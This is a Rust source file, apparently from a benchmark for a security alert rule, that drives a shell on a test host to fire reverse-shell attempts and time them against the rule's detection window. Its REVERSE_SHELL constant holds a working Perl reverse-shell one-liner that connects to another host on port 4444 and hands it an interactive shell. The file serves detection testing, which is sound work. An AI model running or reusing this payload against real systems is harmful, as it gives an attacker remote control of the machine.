//! The cause of alerts: a shell on a host that is attacked, from which reverse shells are tried.

use std::io::{BufRead as _, BufReader, Write as _};
use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};
use std::time::Duration;

use anyhow::{Context, Result, bail};
use lapwing_stage::Hosts;

use super::now;

/// How long after its start the shell must connect for the rule to see both as one: its `maxspan`.
const SPAN_MAX: Duration = Duration::from_secs(1);
/// How often a shell is tried that does not connect in that time.
const TRIES_MAX: usize = 10;

/// Tries to send a shell to a host that does not accept it, and prints its own pid and the time.
const REVERSE_SHELL: &str = "perl -MSocket -MTime::HiRes=clock_gettime,CLOCK_MONOTONIC -e '\
    socket(S, PF_INET, SOCK_STREAM, 6); $to = sockaddr_in(4444, inet_aton(\"ADDRESS\")); \
    $at = clock_gettime(CLOCK_MONOTONIC); connect(S, $to) and exec(\"sh -i <&3 >&3 2>&3\"); \
    printf \"%d %.6f\\n\", $$, $at' || echo nothing";

/// A shell on the host that is attacked, which runs the commands on its standard input.
pub(in crate::bench) struct Attacker {
    shell: Child,
    stdin: ChildStdin,
    stdout: BufReader<ChildStdout>,
    command: String,
}

impl Attacker {
    pub(super) fn new(hosts: &Hosts) -> Result<Self> {
        Self::by(hosts.near.command("bash"), hosts)
    }

    /// One whose programs run before all others: where a thousand others want to run, a shell would else take longer to
    /// connect than the rule looks back.
    pub(in crate::bench) fn first(hosts: &Hosts) -> Result<Self> {
        let mut nice = hosts.near.command("nice");
        nice.args(["-n", "-20", "bash"]);
        Self::by(nice, hosts)
    }

    fn by(mut shell: Command, hosts: &Hosts) -> Result<Self> {
        let mut shell = shell.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().context("bash")?;
        let (stdin, stdout) = (shell.stdin.take(), shell.stdout.take());
        let command = REVERSE_SHELL.replace("ADDRESS", hosts.far.address());
        let (stdin, stdout) = stdin.zip(stdout).context("bash has no pipes")?;
        Ok(Self { shell, stdin, stdout: BufReader::new(stdout), command })
    }

    /// Tries a reverse shell and returns its process and when it called `connect`, in seconds of the monotonic clock.
    /// One whose start alone took longer than the rule looks back is no cause of an alert, and is tried again.
    pub(in crate::bench) fn attack(&mut self) -> Result<(u64, f64)> {
        for _ in 0..TRIES_MAX {
            let start = now();
            let (pid, connected) = self.try_once()?;
            if connected - start < SPAN_MAX.as_secs_f64() {
                return Ok((pid, connected));
            }
        }
        bail!("perl takes more than {} ms to start; the machine is too busy", SPAN_MAX.as_millis());
    }

    fn try_once(&mut self) -> Result<(u64, f64)> {
        writeln!(self.stdin, "{}", self.command).context("bash has gone")?;
        let mut said = String::new();
        self.stdout.read_line(&mut said)?;
        let words = said.trim_end().split_once(' ');
        let read = words.and_then(|(pid, time)| Some((pid.parse().ok()?, time.parse().ok()?)));
        read.with_context(|| format!("perl said `{}`; install perl", said.trim_end()))
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        let _ = self.shell.kill();
        let _ = self.shell.wait();
    }
}
